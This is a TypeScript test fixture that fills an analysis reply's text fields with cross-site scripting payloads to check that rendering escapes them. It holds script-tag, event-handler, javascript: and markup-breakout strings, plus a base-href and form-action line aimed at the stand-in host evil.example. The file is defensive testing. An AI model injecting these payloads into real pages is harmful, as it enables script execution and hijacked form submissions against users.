import type { AnalysisReply } from '../../../src/contract/analysis-reply.ts';

const HARM = 'hurt=true';
const PAYLOADS = [
  `<script>${HARM}</script>`,
  `"><img src=x onerror="${HARM}">`,
  `' onmouseover='${HARM}' style='color:red`,
  `]]></title></style></svg><script>${HARM}</script>`,
  `</details></table></main><b>bold</b><iframe src="javascript:${HARM}">`,
  `--><base href="https://evil.example/"><form action="https://evil.example/">`,
  `&lt;script&gt;&#60;script&#62;\u0000\u202e\ud83d`,
];
/** What is one of a few words, a time, or a number of a version stays, or the reply would be none. */
const KEPT = new Set([
  'verdict',
  'kind',
  'role',
  'harm',
  'direction',
  'state',
  'scale',
  'used',
  'mode',
  'code',
  'from',
  'to',
  'start',
  'end',
  'enoughAt',
  'window',
  'analysisId',
  'version',
  'argo',
]);

/** The reply with something that is meant to harm in every text that comes from a request or from a store. */
export function hostileReply(reply: AnalysisReply): AnalysisReply {
  let used = 0;
  const payload = () => PAYLOADS[used++ % PAYLOADS.length] ?? '';
  const spoilt = (value: unknown, key: string): unknown => {
    if (KEPT.has(key)) return value;
    if (typeof value === 'string') return payload();
    if (Array.isArray(value)) return value.map((one) => spoilt(one, key));
    if (typeof value !== 'object' || value === null) return value;
    return Object.fromEntries(Object.entries(value).map(([name, one]) => [name, spoilt(one, name)]));
  };
  const hostile = spoilt(reply, '') as AnalysisReply;
  return {
    ...hostile,
    link: `javascript:${HARM}`,
    warnings: PAYLOADS,
    metrics: hostile.metrics.map((metric) => ({ ...metric, queries: PAYLOADS, warnings: PAYLOADS })),
  };
}
